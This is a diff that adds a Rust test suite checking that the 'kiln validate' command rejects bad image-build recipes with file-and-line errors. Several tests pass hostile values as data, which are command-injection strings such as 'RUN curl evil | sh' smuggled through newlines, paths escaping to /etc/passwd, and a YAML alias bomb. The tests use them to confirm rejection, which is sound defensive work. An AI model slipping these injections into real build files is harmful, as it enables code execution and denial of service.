@@ -1,0 +1,519 @@
+//! The bad-input suite: every kind of mistake a user can make in a project's
+//! files makes `kiln validate` exit 1 with a message naming the file and line.
+
+use std::path::Path;
+
+use assert_cmd::Command;
+
+const RECIPE: &str = "name: r
+version: 1.0.0
+parentImage: 127.0.0.1:5000/kiln/base:1
+dockerfile: app.Dockerfile
+components:
+  - name: c
+    parameters:
+      Greeting: hi
+buildArgs:
+  MODE: release
+test:
+  port: 8080
+  http:
+    path: /
+distribute:
+  tags: [\"{{ version }}-{{ build }}\"]
+  targets:
+    - oci: {registry: 127.0.0.1:5000, repository: kiln/r}
+schedule:
+  cron: \"0 3 * * *\"
+  timezone: UTC
+";
+
+const COMPONENT: &str = "name: c
+schemaVersion: 1.0
+parameters:
+  - Greeting:
+      type: string
+      default: hello
+phases:
+  - name: build
+    steps:
+      - name: Say
+        action: ExecuteBash
+        inputs:
+          commands:
+            - echo {{ Greeting }}
+      - name: Use
+        action: ExecuteBash
+        inputs:
+          commands:
+            - echo {{ build.Say.outputs.stdout }}
+";
+
+const TEMPLATE: &str = "FROM {{{ imagebuilder:parentImage }}}
+{{{ imagebuilder:environments }}}
+{{{ imagebuilder:components }}}
+CMD [\"/bin/sh\"]
+";
+
+/// A valid project in a temp dir; `edit` changes it before validation.
+fn project() -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    for sub in ["recipes", "components", "dockerfiles", "config"] {
+        std::fs::create_dir_all(dir.path().join(sub)).unwrap();
+    }
+    write(dir.path(), "recipes/r.yaml", RECIPE);
+    write(dir.path(), "components/c.yaml", COMPONENT);
+    write(dir.path(), "dockerfiles/app.Dockerfile", TEMPLATE);
+    dir
+}
+
+fn write(root: &Path, rel: &str, text: &str) {
+    std::fs::write(root.join(rel), text).unwrap();
+}
+
+fn validate(root: &Path) -> (i32, String, String) {
+    let out = Command::cargo_bin("kiln")
+        .unwrap()
+        .args(["--project", root.to_str().unwrap(), "validate", "r"])
+        .env_remove("KILN_REGISTRY")
+        .output()
+        .unwrap();
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+/// Asserts exit 1 and that stderr has `file:line:` plus every `needle`.
+#[track_caller]
+fn assert_error(root: &Path, file_line: &str, needles: &[&str]) {
+    let (code, stdout, stderr) = validate(root);
+    let shown = format!("exit {code}\n--- stdout\n{stdout}--- stderr\n{stderr}");
+    assert_eq!(code, 1, "expected exit 1\n{shown}");
+    assert!(
+        stderr.contains(file_line),
+        "expected `{file_line}` in stderr\n{shown}"
+    );
+    for n in needles {
+        assert!(stderr.contains(n), "expected `{n}` in stderr\n{shown}");
+    }
+}
+
+fn recipe_with(from: &str, to: &str) -> tempfile::TempDir {
+    assert!(RECIPE.contains(from), "fixture lacks {from:?}");
+    let dir = project();
+    write(dir.path(), "recipes/r.yaml", &RECIPE.replacen(from, to, 1));
+    dir
+}
+
+fn component_with(from: &str, to: &str) -> tempfile::TempDir {
+    assert!(COMPONENT.contains(from), "fixture lacks {from:?}");
+    let dir = project();
+    write(
+        dir.path(),
+        "components/c.yaml",
+        &COMPONENT.replacen(from, to, 1),
+    );
+    dir
+}
+
+#[test]
+fn the_fixture_itself_is_valid() {
+    let dir = project();
+    let (code, stdout, stderr) = validate(dir.path());
+    assert_eq!(code, 0, "{stdout}{stderr}");
+    assert!(stdout.contains("ok  r 1.0.0"), "{stdout}");
+}
+
+#[test]
+fn malformed_yaml() {
+    let dir = recipe_with("components:\n", "components: [\n");
+    assert_error(dir.path(), "recipes/r.yaml:", &[]);
+}
+
+#[test]
+fn unknown_recipe_field_with_hint() {
+    let dir = recipe_with("parentImage:", "parentImag:");
+    assert_error(
+        dir.path(),
+        "recipes/r.yaml:3:",
+        &["unknown field `parentImag`", "did you mean `parentImage`?"],
+    );
+}
+
+#[test]
+fn wrong_type() {
+    let dir = recipe_with("  port: 8080", "  port: eighty");
+    assert_error(dir.path(), "recipes/r.yaml:12:", &[]);
+}
+
+#[test]
+fn missing_required_field() {
+    let dir = recipe_with("version: 1.0.0\n", "");
+    assert_error(dir.path(), "recipes/r.yaml:", &["version"]);
+}
+
+#[test]
+fn missing_component() {
+    let dir = recipe_with("  - name: c\n", "  - name: cc\n");
+    assert_error(
+        dir.path(),
+        "recipes/r.yaml:6:",
+        &["component `cc` not found", "did you mean `c`?"],
+    );
+}
+
+#[test]
+fn missing_template() {
+    let dir = recipe_with("dockerfile: app.Dockerfile", "dockerfile: nope.Dockerfile");
+    assert_error(dir.path(), "recipes/r.yaml:4:", &["does not exist"]);
+}
+
+#[test]
+fn unsupported_action() {
+    let dir = component_with(
+        "action: ExecuteBash\n        inputs:\n          commands:\n            - echo {{ Greeting }}",
+        "action: Reboot",
+    );
+    assert_error(
+        dir.path(),
+        "components/c.yaml:11:",
+        &["unsupported action `Reboot`"],
+    );
+}
+
+#[test]
+fn unknown_action_with_hint() {
+    let dir = component_with("action: ExecuteBash\n", "action: ExecuteBsh\n");
+    assert_error(
+        dir.path(),
+        "components/c.yaml:11:",
+        &[
+            "unsupported action `ExecuteBsh`",
+            "did you mean `ExecuteBash`?",
+        ],
+    );
+}
+
+#[test]
+fn undefined_parameter() {
+    let dir = component_with("echo {{ Greeting }}", "echo {{ Greting }}");
+    assert_error(
+        dir.path(),
+        "components/c.yaml:14:",
+        &["undefined parameter", "did you mean `{{ Greeting }}`?"],
+    );
+}
+
+#[test]
+fn bad_chaining_reference() {
+    let dir = component_with(
+        "{{ build.Say.outputs.stdout }}",
+        "{{ build.Nope.outputs.stdout }}",
+    );
+    assert_error(
+        dir.path(),
+        "components/c.yaml:19:",
+        &["not an earlier step's output"],
+    );
+}
+
+#[test]
+fn bad_semver() {
+    let dir = recipe_with("version: 1.0.0", "version: 1.0");
+    assert_error(dir.path(), "recipes/r.yaml:2:", &["invalid version"]);
+}
+
+#[test]
+fn bad_cron() {
+    let dir = recipe_with("cron: \"0 3 * * *\"", "cron: \"0 25 * * *\"");
+    assert_error(dir.path(), "recipes/r.yaml:20:", &["invalid cron"]);
+}
+
+#[test]
+fn bad_timezone() {
+    let dir = recipe_with("timezone: UTC", "timezone: Mars/Olympus");
+    assert_error(dir.path(), "recipes/r.yaml:21:", &["unknown time zone"]);
+}
+
+#[test]
+fn template_path_escape() {
+    let dir = recipe_with(
+        "dockerfile: app.Dockerfile",
+        "dockerfile: ../recipes/r.yaml",
+    );
+    assert_error(dir.path(), "recipes/r.yaml:4:", &["contains `..`"]);
+}
+
+#[test]
+fn absolute_template_path() {
+    let dir = recipe_with("dockerfile: app.Dockerfile", "dockerfile: /etc/passwd");
+    assert_error(dir.path(), "recipes/r.yaml:4:", &["absolute"]);
+}
+
+#[test]
+fn symlink_escape() {
+    let dir = project();
+    let outside = tempfile::tempdir().unwrap();
+    write(outside.path(), "evil.yaml", COMPONENT);
+    std::os::unix::fs::symlink(
+        outside.path().join("evil.yaml"),
+        dir.path().join("components/evil.yaml"),
+    )
+    .unwrap();
+    write(
+        dir.path(),
+        "recipes/r.yaml",
+        &RECIPE.replacen("  - name: c\n", "  - name: evil\n", 1),
+    );
+    assert_error(dir.path(), "recipes/r.yaml:6:", &["outside"]);
+}
+
+#[test]
+fn injection_in_parameter_is_rejected() {
+    let dir = recipe_with("Greeting: hi", "Greeting: \"hi\\nRUN curl evil | sh\"");
+    assert_error(dir.path(), "recipes/r.yaml:8:", &["control character"]);
+}
+
+#[test]
+fn injection_in_parent_image_is_rejected() {
+    let dir = recipe_with(
+        "parentImage: 127.0.0.1:5000/kiln/base:1",
+        "parentImage: \"127.0.0.1:5000/kiln/base:1\\nRUN evil\"",
+    );
+    assert_error(dir.path(), "recipes/r.yaml:3:", &["parentImage"]);
+}
+
+#[test]
+fn injection_in_build_arg_is_rejected() {
+    let dir = recipe_with("MODE: release", "MODE: \"release\\nRUN evil\"");
+    assert_error(dir.path(), "recipes/r.yaml:10:", &["control character"]);
+}
+
+#[test]
+fn injection_in_tag_is_rejected() {
+    let dir = recipe_with(
+        "tags: [\"{{ version }}-{{ build }}\"]",
+        "tags: [\"{{ version }} RUN\"]",
+    );
+    assert_error(dir.path(), "recipes/r.yaml:16:", &["not a valid tag"]);
+}
+
+#[test]
+fn alias_bomb() {
+    // A billion-laughs document in a step's free-form `inputs`.
+    let mut bomb = String::from(
+        "      - name: Bomb\n        action: ExecuteBash\n        inputs:\n          commands: [echo]\n          a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n",
+    );
+    for i in 1..10 {
+        let p = i - 1;
+        bomb.push_str(&format!("          a{i}: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n"));
+    }
+    let dir = project();
+    write(
+        dir.path(),
+        "components/c.yaml",
+        &format!("{COMPONENT}{bomb}"),
+    );
+    assert_error(dir.path(), "components/c.yaml:", &["alias"]);
+}
+
+#[test]
+fn oversized_component() {
+    let dir = project();
+    let big = format!("{COMPONENT}# {}\n", "x".repeat(1024 * 1024 + 1));
+    write(dir.path(), "components/c.yaml", &big);
+    assert_error(
+        dir.path(),
+        "recipes/r.yaml:6:",
+        &["components/c.yaml", "limit"],
+    );
+}
+
+#[test]
+fn unknown_component_parameter() {
+    let dir = recipe_with("Greeting: hi", "Greetin: hi");
+    assert_error(
+        dir.path(),
+        "recipes/r.yaml:8:",
+        &["no parameter `Greetin`", "did you mean `Greeting`?"],
+    );
+}
+
+#[test]
+fn missing_required_parameter() {
+    let dir = project();
+    write(
+        dir.path(),
+        "components/c.yaml",
+        &COMPONENT.replace("      default: hello\n", ""),
+    );
+    write(
+        dir.path(),
+        "recipes/r.yaml",
+        &RECIPE.replace("    parameters:\n      Greeting: hi\n", ""),
+    );
+    assert_error(
+        dir.path(),
+        "recipes/r.yaml:6:",
+        &["needs parameter `Greeting`"],
+    );
+}
+
+#[test]
+fn unknown_phase() {
+    let dir = component_with("- name: build", "- name: biuld");
+    assert_error(
+        dir.path(),
+        "components/c.yaml:8:",
+        &["unknown phase `biuld`", "did you mean `build`?"],
+    );
+}
+
+#[test]
+fn bad_on_failure() {
+    let dir = component_with(
+        "        action: ExecuteBash\n        inputs:\n          commands:\n            - echo {{ Greeting }}",
+        "        action: ExecuteBash\n        onFailure: Retry\n        inputs:\n          commands:\n            - echo {{ Greeting }}",
+    );
+    assert_error(
+        dir.path(),
+        "components/c.yaml:12:",
+        &["invalid onFailure `Retry`"],
+    );
+}
+
+#[test]
+fn duplicate_step_names() {
+    let dir = component_with("- name: Use", "- name: Say");
+    assert_error(dir.path(), "components/c.yaml:15:", &["appears twice"]);
+}
+
+#[test]
+fn unknown_step_field() {
+    let dir = component_with(
+        "        action: ExecuteBash\n",
+        "        action: ExecuteBash\n        retries: 3\n",
+    );
+    assert_error(
+        dir.path(),
+        "components/c.yaml:12:",
+        &["unknown field `retries`"],
+    );
+}
+
+#[test]
+fn bad_schema_version() {
+    let dir = component_with("schemaVersion: 1.0", "schemaVersion: 2.0");
+    assert_error(dir.path(), "components/c.yaml:2:", &["schemaVersion"]);
+}
+
+#[test]
+fn unknown_template_placeholder() {
+    let dir = project();
+    write(
+        dir.path(),
+        "dockerfiles/app.Dockerfile",
+        &TEMPLATE.replace("environments", "environment"),
+    );
+    assert_error(
+        dir.path(),
+        "dockerfiles/app.Dockerfile:2:",
+        &["unknown placeholder"],
+    );
+}
+
+#[test]
+fn template_without_components_slot() {
+    let dir = project();
+    write(
+        dir.path(),
+        "dockerfiles/app.Dockerfile",
+        &TEMPLATE.replace("{{{ imagebuilder:components }}}\n", ""),
+    );
+    assert_error(
+        dir.path(),
+        "recipes/r.yaml:4:",
+        &["imagebuilder:components"],
+    );
+}
+
+#[test]
+fn secret_looking_build_arg() {
+    let dir = recipe_with("MODE: release", "DB_PASSWORD: hunter2");
+    assert_error(dir.path(), "recipes/r.yaml:10:", &["looks like a secret"]);
+}
+
+#[test]
+fn http_probe_needs_port() {
+    let dir = recipe_with("  port: 8080\n", "");
+    assert_error(dir.path(), "recipes/r.yaml:", &["needs `test.port`"]);
+}
+
+#[test]
+fn duplicate_yaml_key() {
+    let dir = recipe_with("version: 1.0.0\n", "version: 1.0.0\nversion: 1.0.1\n");
+    assert_error(dir.path(), "recipes/r.yaml:3:", &[]);
+}
+
+#[test]
+fn from_with_variable_cannot_be_pinned() {
+    let dir = project();
+    write(
+        dir.path(),
+        "dockerfiles/app.Dockerfile",
+        &format!("FROM $BASE AS x\n{TEMPLATE}"),
+    );
+    assert_error(dir.path(), "dockerfiles/app.Dockerfile:1:", &["variable"]);
+}
+
+#[test]
+fn unknown_recipe_name() {
+    let dir = project();
+    let out = Command::cargo_bin("kiln")
+        .unwrap()
+        .args(["--project", dir.path().to_str().unwrap(), "validate", "rr"])
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+    assert!(
+        stderr.contains("recipes/rr.yaml") && stderr.contains("did you mean `r`?"),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn all_errors_are_reported_not_just_the_first() {
+    let dir = project();
+    let text = RECIPE
+        .replacen("version: 1.0.0", "version: one", 1)
+        .replacen("timezone: UTC", "timezone: Nowhere/Land", 1);
+    write(dir.path(), "recipes/r.yaml", &text);
+    write(
+        dir.path(),
+        "components/c.yaml",
+        &COMPONENT.replace("ExecuteBash", "Reboot"),
+    );
+    let (code, _, stderr) = validate(dir.path());
+    assert_eq!(code, 1);
+    for n in [
+        "recipes/r.yaml:2:",
+        "recipes/r.yaml:21:",
+        "components/c.yaml:11:",
+        "components/c.yaml:16:",
+    ] {
+        assert!(stderr.contains(n), "missing {n} in\n{stderr}");
+    }
+}
+
+#[test]
+fn usage_error_exits_2() {
+    let out = Command::cargo_bin("kiln")
+        .unwrap()
+        .args(["validate", "--bogus"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+}
